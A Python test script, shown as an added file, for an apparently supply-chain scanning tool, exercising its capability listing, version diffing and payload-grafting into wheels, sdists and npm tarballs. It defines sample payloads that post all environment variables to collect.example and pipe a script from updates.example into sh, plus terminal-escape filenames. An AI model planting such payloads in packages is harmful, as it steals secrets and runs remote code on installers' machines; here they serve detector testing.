@@ -1,0 +1,155 @@
+#!/usr/bin/python3
+# SPDX-License-Identifier: Apache-2.0
+"""`tidewaiter capabilities`, `diff` and `mutate --graft` as their users call them, on small packages made here."""
+import argparse
+import base64
+import hashlib
+import io
+import json
+import os
+import subprocess
+import sys
+import tarfile
+import tempfile
+import zipfile
+from pathlib import Path
+
+passed = failed = 0
+PAYLOAD = 'import os, urllib.request\nurllib.request.urlopen("http://collect.example/x", data=str(dict(os.environ)).encode())\n'
+JS_PAYLOAD = "require('child_process').exec('curl -s http://updates.example/i.sh | sh');\n"
+HOSTILE = "\x1b[31mred\u202e"
+
+
+def check(ok, what, *more):
+    global passed, failed
+    passed, failed = passed + bool(ok), failed + (not ok)
+    if not ok:
+        print("FAILED", what, *[repr(m)[:1500] for m in more])
+
+
+class Program:
+    def __init__(self, path, tmp):
+        self.path, self.tmp = path, tmp
+        self.env = {"PATH": os.environ["PATH"], "HOME": str(tmp / "home")}
+
+    def __call__(self, *args):
+        r = subprocess.run([self.path, *map(str, args)], capture_output=True, timeout=300, env=self.env, cwd=self.tmp)
+        return r.returncode, r.stdout.decode("utf-8", "surrogateescape"), r.stderr.decode("utf-8", "surrogateescape")
+
+    def diff(self, *args):
+        code, out, err = self("diff", "--format", "json", *args)
+        return json.loads(out) if out else None, code, err
+
+
+def wheel(path, version, files, requires=()):
+    meta = f"Metadata-Version: 2.1\nName: reef\nVersion: {version}\n" + "".join(f"Requires-Dist: {r}\n" for r in requires)
+    info = f"reef-{version}.dist-info"
+    files = {**files, f"{info}/METADATA": meta, f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
+    record = "".join(f"{n},sha256={base64.urlsafe_b64encode(hashlib.sha256(c.encode()).digest()).rstrip(b'=').decode()},{len(c.encode())}\n" for n, c in files.items())
+    files[f"{info}/RECORD"] = record + f"{info}/RECORD,,\n"
+    with zipfile.ZipFile(path, "w") as z:
+        for name, content in files.items():
+            z.writestr(name, content)
+    return path
+
+
+def tarball(path, root, files):
+    with tarfile.open(path, "w:gz") as t:
+        for name, content in files.items():
+            data = content.encode()
+            info = tarfile.TarInfo(f"{root}/{name}")
+            info.size = len(data)
+            t.addfile(info, io.BytesIO(data))
+    return path
+
+
+def kinds(d):
+    return {(i["what"], i["id"]) for i in d["items"] if i["change"] == "gained"}
+
+
+def test_capabilities(tw, tmp):
+    w = wheel(tmp / "reef-1.0-py3-none-any.whl", "1.0", {"reef/__init__.py": "import os\nX = os.environ.get('HOME')\ndef go():\n    os.system('ls')\n"}, ["requests>=2"])
+    code, out, _ = tw("capabilities", w)
+    check(code == 0 and "reef 1.0" in out and "when it is called" in out and "exec.shell" in out, "tree", code, out)
+    code, out, _ = tw("capabilities", "--format", "json", w)
+    d = json.loads(out)
+    check(d["schema"] == "tidewaiter.capabilities/1" and d["name"] == "reef", "json", out)
+    check([x["name"] for x in d["dependencies"]] == ["requests"], "dependencies", d["dependencies"])
+    use = [u for u in d["capabilities"] if u["id"] == "exec.shell"]
+    check(use and use[0]["trigger"] == "call" and use[0]["member"] == "reef/__init__.py" and use[0]["line"] == 4, "a use and its place", use)
+    check(len(d["files"]) == 4, "files", d["files"])
+    quiet = wheel(tmp / "reef-2.0-py3-none-any.whl", "2.0", {"reef/__init__.py": "def add(a, b):\n    return a + b\n"})
+    code, out, _ = tw("capabilities", quiet)
+    check(code == 0 and "nothing but compute" in out, "nothing to say", out)
+    code, out, err = tw("capabilities", tmp / "none.whl")
+    check(code == 2 and not out and "none.whl" in err, "a file that is not there", code, out, err)
+    named = wheel(tmp / "reef-3.0-py3-none-any.whl", "3.0", {"reef/demo/__init__.py": "import os\nos.system('ls')\n", "reef/__init__.py": ""})
+    out = json.loads(tw("capabilities", "--format", "json", named)[1])
+    check({u["trigger"] for u in out["capabilities"] if u["id"] == "exec.shell"} == {"dead"}, "a demo within a package", out["capabilities"])
+    check(tw("capabilities")[0] == 2 and tw("capabilities", "--format", "x", w)[0] == 2, "bad arguments")
+    odd = wheel(tmp / "odd-1.0-py3-none-any.whl", "1.0", {f"reef/{HOSTILE}.py": f"import os\nos.system('{HOSTILE}')\n"})
+    code, out, _ = tw("capabilities", "--all", odd)
+    check(code == 0 and "\x1b" not in out and "\u202e" not in out and "\\x1b" in out, "hostile names stay harmless", out)
+
+
+def test_diff(tw, tmp):
+    old = wheel(tmp / "reef-1.0-py3-none-any.whl", "1.0", {"reef/__init__.py": "from .a import go\n", "reef/a.py": "import os\ndef go():\n    os.system('ls -l')\n"})
+    same, code, _ = tw.diff(old, old)
+    check(code == 0 and same["level"] == "none" and not same["items"], "against itself", same)
+    moved = wheel(tmp / "reef-1.1-py3-none-any.whl", "1.1", {"reef/__init__.py": "from .inner.b import go\n", "reef/inner/__init__.py": "", "reef/inner/b.py": "import os\n\n\ndef go():\n    os.system('ls -l')\n"})
+    d, _, _ = tw.diff(old, moved)
+    check(d["level"] == "none" and not {k for k in kinds(d) if k[0] in ("capability", "use")}, "moved code is not new", d["items"])
+    new = wheel(tmp / "reef-1.2-py3-none-any.whl", "1.2", {"reef/__init__.py": "from .a import go\n" + PAYLOAD, "reef/a.py": "import os\ndef go():\n    os.system('ls -l')\n"}, ["plain-crypto>=1"])
+    d, code, _ = tw.diff(old, new)
+    check(code == 0 and d["level"] == "high" and d["headline"], "an injection at import", d)
+    first = d["items"][0]
+    check(first["member"] == "reef/__init__.py" and first["line"] == 3 and "urlopen" in first["snippet"], "the first item names the line", first)
+    check({("capability", "net.http"), ("host", "collect.example"), ("dependency", "plain-crypto")} <= kinds(d), "what is new", kinds(d))
+    check([i["risk"] for i in d["items"] if i["change"] == "gained"] == sorted((i["risk"] for i in d["items"] if i["change"] == "gained"), reverse=True), "by risk")
+    back, _, _ = tw.diff(new, old)
+    check(back["level"] == "none" and ("lost", "net.http") in {(i["change"], i["id"]) for i in back["items"]}, "what was lost alarms nobody", back["items"])
+    check(tw("diff", "--fail-on", "high", old, new)[0] == 1 and tw("diff", "--fail-on", "high", old, moved)[0] == 0, "--fail-on")
+    code, out, _ = tw("diff", old, new)
+    check(code == 0 and "reef 1.0" in out and "high" in out and "reef/__init__.py:3" in out, "text", out)
+    check(tw("diff", old)[0] == 2 and tw("diff", old, tmp / "none")[0] == 2, "bad arguments")
+
+
+def test_graft(tw, tmp):
+    good = wheel(tmp / "reef-1.0-py3-none-any.whl", "1.0", {"reef/__init__.py": "X = 1\n"})
+    sdist = tarball(tmp / "reef-1.0.tar.gz", "reef-1.0", {"PKG-INFO": "Metadata-Version: 2.1\nName: reef\nVersion: 1.0\n", "setup.py": "from setuptools import setup\nsetup()\n", "reef/__init__.py": "X = 1\n"})
+    npm = tarball(tmp / "reef-1.0.0.tgz", "package", {"package.json": '{"name": "reef", "version": "1.0.0", "main": "index.js", "scripts": {"test": "true"}}', "index.js": "exports.x = 1;\n"})
+    (tmp / "p.py").write_text(PAYLOAD)
+    (tmp / "p.js").write_text(JS_PAYLOAD)
+    cases = [(good, "p.py", at) for at in ("import", "pth", "data", "split")] + [(sdist, "p.py", at) for at in ("import", "install", "data", "split")]
+    cases += [(npm, "p.js", at) for at in ("import", "install", "data", "split")]
+    for package, payload, at in cases:
+        out = tmp / ("bad-" + package.name)
+        code, said, err = tw("mutate", "--graft", payload, "--at", at, "--output", out, "--force", package)
+        check(code == 0 and "now runs it" in said, f"{package.name} at {at}", code, err)
+        d, _, _ = tw.diff(package, out)
+        check(d and d["level"] == "high", f"{package.name} at {at} is seen", d and [(i["risk"], i["id"], i["trigger"]) for i in d["items"][:4]])
+    tw("mutate", "--graft", "p.py", "--output", tmp / "r.whl", good)
+    with zipfile.ZipFile(tmp / "r.whl") as z:
+        rows = dict(line.split(",", 2)[:2] for line in z.read("reef-1.0.dist-info/RECORD").decode().splitlines())
+        digest = base64.urlsafe_b64encode(hashlib.sha256(z.read("reef/__init__.py")).digest()).rstrip(b"=").decode()
+    check(z.testzip() is None if z.fp else True, "the archive is whole")
+    check(rows["reef/__init__.py"] == "sha256=" + digest, "RECORD is brought up to date", rows)
+    check(tw("mutate", "--graft", "p.py", "--output", tmp / "r.whl", good)[0] == 2, "nothing is replaced without --force")
+    check(tw("mutate", "--graft", "p.py", "--at", "install", "--output", tmp / "s.whl", good)[0] == 2, "a wheel has no install time")
+    with tarfile.open(tmp / "bad-reef-1.0.0.tgz") as t:
+        check("package/index.js" in t.getnames(), "tar is readable")
+
+
+def main():
+    ap = argparse.ArgumentParser(description=__doc__)
+    ap.add_argument("--tidewaiter", required=True)
+    path = os.path.abspath(ap.parse_args().tidewaiter)
+    for test in (test_capabilities, test_diff, test_graft):
+        with tempfile.TemporaryDirectory() as folder:
+            test(Program(path, Path(folder)), Path(folder))
+    print(f"{passed} passed, {failed} failed")
+    return failed != 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
